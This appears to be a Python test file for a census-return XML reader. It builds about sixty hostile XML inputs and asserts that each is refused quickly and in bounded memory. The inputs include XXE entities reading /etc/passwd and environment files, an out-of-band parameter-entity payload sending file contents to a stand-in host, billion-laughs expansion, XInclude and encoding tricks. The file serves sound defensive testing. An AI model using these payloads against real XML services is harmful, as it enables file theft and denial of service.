"""Sixty files made to harm whoever reads them: each is refused in words, at once, in little memory, and reaches nothing.

What a file is made of is ours; which ways there are is known from what XML readers have been attacked with.
"""

from __future__ import annotations

import io
import resource
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from alongside.census import prolog, streaming
from alongside.census.problems import FileRefused
from alongside.census.reading import Census
from tests.census.returns import CHILD, message

GOOD = message(CHILD)
HEAD, REST = GOOD.split("\n", 1)
MOST_SECONDS, MOST_MEMORY = 1.0, 256 * 1024 * 1024


def with_type(inside: str, use: str = "BCRB", before: str = "") -> str:
    """The good return with a document type, and what it declares used in a place of the census."""
    return f"{HEAD}\n{before}<!DOCTYPE Message {inside}>\n{REST.replace('>BCRB<', f'>{use}<')}"


def in_child(what: str) -> str:
    return GOOD.replace("<Ethnicity>", f"{what}<Ethnicity>")


def among_children(what: str) -> str:
    return GOOD.replace("<Children>", f"<Children>{what}")


def doubling(levels: int, times: int, entity: str = "e") -> str:
    """Entities of entities: the n-th is ``times`` of the one before."""
    first = f'<!ENTITY {entity}0 "{"x" * 10}">'
    return first + "".join(
        f'<!ENTITY {entity}{n} "{f"&{entity}{n - 1};" * times}">' for n in range(1, levels)
    )


def declared() -> Iterator[tuple[str, str]]:
    """A document type, in every form there is."""
    yield "a type alone", with_type("")
    yield "a type before an element of another name", with_type("").replace("DOCTYPE Message", "DOCTYPE html")
    yield "a type after a comment", with_type("", before="<!-- a return -->\n")
    yield "a type after an instruction", with_type("", before='<?xml-stylesheet href="x.xsl"?>\n')
    yield "a type after many comments", with_type("", before="<!-- x -->" * 500)
    yield "an empty subset", with_type("[]")
    yield "an element declared", with_type("[<!ELEMENT Message ANY>]")
    yield "an attribute with a default", with_type('[<!ATTLIST Child note CDATA "x">]')
    yield "a notation", with_type('[<!NOTATION gif SYSTEM "gif">]')
    for where in (
        "file:///etc/passwd", "file:///dev/zero", "file:///proc/self/environ", "http://wrenmouth.example/x", "https://wrenmouth.example/x",
        "ftp://wrenmouth.example/x", "http://127.0.0.1:8000/", "http://[::1]/", "jar:file:///x.jar!/y", "php://filter/x", "../../etc/passwd",
        "data:text/plain,x", "gopher://127.0.0.1/", "netdoc:/etc/passwd", "expect://id",
    ):  # fmt: skip
        yield f"an entity that is {where}", with_type(f'[<!ENTITY x SYSTEM "{where}">]', "&x;")
    yield "a type that is a file", with_type('SYSTEM "file:///etc/passwd"')
    yield "a type that is public", with_type('PUBLIC "-//W3C//DTD" "http://wrenmouth.example/x.dtd"')
    yield "a parameter entity", with_type('[<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;]')
    yield (
        "a parameter entity that sends",
        with_type(
            '[<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % s "<!ENTITY x SYSTEM \'http://wrenmouth.example/%f;\'>"> %s;]',
            "&x;",
        ),
    )
    yield "an entity of an entity of itself", with_type('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', "&a;")
    yield (
        "an entity unparsed",
        with_type('[<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "file:///etc/passwd" NDATA n>]'),
    )
    yield "a billion laughs", with_type(f"[{doubling(10, 10)}]", "&e9;")
    yield "doubled sixty times", with_type(f"[{doubling(60, 2)}]", "&e59;")
    yield "laughs in parameter entities", with_type('[<!ENTITY % a "x"><!ENTITY % b "%a;%a;"> %b;]')
    yield "laughs in an attribute", with_type(f'[{doubling(10, 10)}<!ATTLIST Child note CDATA "&e9;">]')
    yield "one long entity, often", with_type(f'[<!ENTITY a "{"a" * 100_000}">]', "&a;" * 5_000)
    yield "a type in UTF-16", with_type(f"[{doubling(10, 10)}]", "&e9;").replace("utf-8", "utf-16")


def without_a_type() -> Iterator[tuple[str, str | bytes]]:
    """What needs no document type: too much, too deep, too many, in other letters."""
    yield "an entity of HTML", GOOD.replace("BCRB", "&nbsp;")
    yield "deep within the children", among_children("<a>" * 100 + "</a>" * 100)
    yield "deep within a child", in_child("<a>" * 100 + "</a>" * 100)
    yield "just deeper than is read", in_child("<a>" * 62 + "</a>" * 62)
    yield "deep in the header", GOOD.replace("<Source>", "<a>" * 100 + "</a>" * 100 + "<Source>")
    yield "deep without an end", "<Message>" + "<a>" * 100_000
    yield "deep before the header", GOOD.replace("<Header>", "<a>" * 200 + "</a>" * 200 + "<Header>")
    yield "deep after the children", GOOD.replace("</Message>", "<a>" * 99 + "</a>" * 99 + "</Message>")
    yield "many elements in a child", in_child("<a/>" * 30_000)
    yield "many elements for ever in a child", in_child("<a/>" * 2_000_000)
    yield "many elements in the header", GOOD.replace("<Source>", "<a/>" * 30_000 + "<Source>")
    yield "many elements beside the children", among_children("<a/>" * 30_000)
    yield "many small elements within one", among_children("<b>" + "<a/>" * 30_000 + "</b>")
    yield "a long value", GOOD.replace("BCRB", "B" * 9_000_000)
    yield "a long value in references", GOOD.replace("BCRB", "&#66;" * 900_000)
    yield "a long name", in_child(f"<{'a' * 2_000_000}/>")
    yield "a long attribute", GOOD.replace("<Child>", f'<Child note="{"x" * 9_000_000}">')
    yield (
        "many attributes",
        GOOD.replace("<Child>", "<Child " + " ".join(f'a{n}="x"' for n in range(200_000)) + ">"),
    )
    yield (
        "many namespaces",
        GOOD.replace("<Child>", "<Child " + " ".join(f'xmlns:a{n}="urn:{n}"' for n in range(60_000)) + ">"),
    )
    yield "a long comment", among_children(f"<!--{'x' * 9_000_000}-->")
    yield "a long instruction", among_children(f"<?x {'x' * 9_000_000}?>")
    yield "a long section of characters", among_children(f"<![CDATA[{'x' * 9_000_000}]]>")
    yield "many comments before anything", HEAD + "<!--x-->" * 100_000
    yield "spaces before anything", HEAD + " " * 10_000_000 + REST
    yield (
        "an inclusion",
        GOOD.replace(
            "<Children>",
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/><Children>',
        ),
    )
    yield "letters that cannot be", GOOD.replace("BCRB", "B\x00\x08RB")
    yield "a reference to nothing", GOOD.replace("BCRB", "&#0;")
    yield "a reference beyond letters", GOOD.replace("BCRB", "&#x110000;")
    yield "UTF-8 longer than it need be", GOOD.encode().replace(b"BCRB", b"\xc0\xbcRB")
    yield "UTF-7 that hides a type", GOOD.replace("utf-8", "utf-7").replace("BCRB", "+ADwAIQ-DOCTYPE")
    yield "halves of letters", GOOD.encode().replace(b"BCRB", b"\xed\xa0\x80RB")
    yield "two declarations", HEAD + "\n" + GOOD


ATTACKS: dict[str, str | bytes] = dict([*declared(), *without_a_type()])


def came_to(content: str | bytes) -> FileRefused | None:
    """Why the file was refused as a whole; none where its children could be asked for."""
    whole = (
        content.encode("utf-16" if "utf-16" in content[:60] else "utf-8")
        if isinstance(content, str)
        else content
    )
    try:
        census = Census(io.BytesIO(whole))
    except FileRefused as refused:
        return refused
    readings = list(census.children())
    assert all(one.child is None for one in readings) or census.problems
    assert not any("root:" in str(problem) for one in readings for problem in one.problems)
    return None


def test_each_is_refused_in_words_within_a_second_and_in_little_memory() -> None:
    before, slow, wordless, read = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, [], [], []
    for name, content in ATTACKS.items():
        began = time.process_time()
        refused = came_to(content)
        spent = time.process_time() - began
        if spent > MOST_SECONDS:
            slow.append((name, spent))
        if refused is None:
            read.append(name)
        elif not (refused.what and refused.why and refused.do) or "root:" in str(refused):
            wordless.append(name)
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) * 1024
    assert (slow, wordless, read) == ([], [], [])
    assert grown < MOST_MEMORY
    assert len(ATTACKS) >= 60


def test_a_file_larger_than_any_return_is_not_even_begun(tmp_path: Path) -> None:
    path = tmp_path / "return.xml"
    with path.open("wb") as file:
        file.write(GOOD.encode())
        file.truncate(prolog._LARGEST_FILE + 1)
    with path.open("rb") as file, pytest.raises(FileRefused, match="larger than any census return"):
        Census(file)


def test_elements_are_counted_over_the_whole_file(monkeypatch: pytest.MonkeyPatch) -> None:
    many = message(*([CHILD] * 20)).encode()
    Census(io.BytesIO(many))
    monkeypatch.setattr(streaming, "_MOST_ELEMENTS", 300)
    with pytest.raises(FileRefused, match="more elements than a census return has"):
        Census(io.BytesIO(many))


def test_without_the_limits_some_would_be_read(monkeypatch: pytest.MonkeyPatch) -> None:
    """The seeded fault: nothing is counted."""
    monkeypatch.setattr(streaming.Parts, "_refuse_too_many", lambda self, node: None)
    assert came_to(ATTACKS["just deeper than is read"]) is None
    assert came_to(ATTACKS["many elements in a child"]) is None
